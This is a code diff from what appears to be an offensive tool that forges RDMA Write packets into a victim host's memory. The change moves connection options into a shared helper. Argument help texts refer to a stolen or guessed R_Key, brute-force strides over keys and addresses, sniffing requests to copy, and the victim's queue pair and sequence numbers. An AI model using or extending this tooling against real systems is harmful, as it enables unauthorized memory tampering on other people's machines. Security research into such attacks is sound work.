@@ -19,7 +19,7 @@ import argparse
 
 from ..agent.frames import Builder, gid_bytes
 from .common import RawSocket, blast, checked, gid_text, int0, parser, report, run
-from .forge import complete
+from .forge import complete, connection_options
 from .forging import forged
 
 MASK32 = (1 << 32) - 1
@@ -37,17 +37,11 @@ def write(builder: Builder, args: argparse.Namespace, i: int) -> bytes:
 def main(argv: list[str] | None = None) -> int:
     p = parser(__doc__.splitlines()[0])
     p.set_defaults(count=1)
-    p.add_argument("--dst-gid", required=True, help="the victim host")
     p.add_argument("--rkey", type=int0, required=True, help="the stolen R_Key, or the first guess")
     p.add_argument("--rkey-stride", type=int0, default=0, help="added to the R_Key per guess")
     p.add_argument("--va", type=int0, required=True, help="the address of the first write")
     p.add_argument("--va-stride", type=int0, default=0, help="added to the address per guess")
-    p.add_argument("--sniff", type=float, default=0.0, help="seconds to sniff for a request to copy")
-    p.add_argument("--src-gid", help="source GID (default: the captured requester, else the attacker's)")
-    p.add_argument("--pkey", type=int0)
-    p.add_argument("--qpn", type=int0, help="the victim's QPN of the connection")
-    p.add_argument("--psn", type=int0, help="the victim's next expected PSN (default: captured + 1)")
-    p.add_argument("--mode", type=int, choices=range(5), help="security mode (default: captured, else 0)")
+    connection_options(p)
     p.add_argument("--data", default="GUESSED", help="payload text")
     args = checked(p.parse_args(argv))
     sock = RawSocket(args.iface)
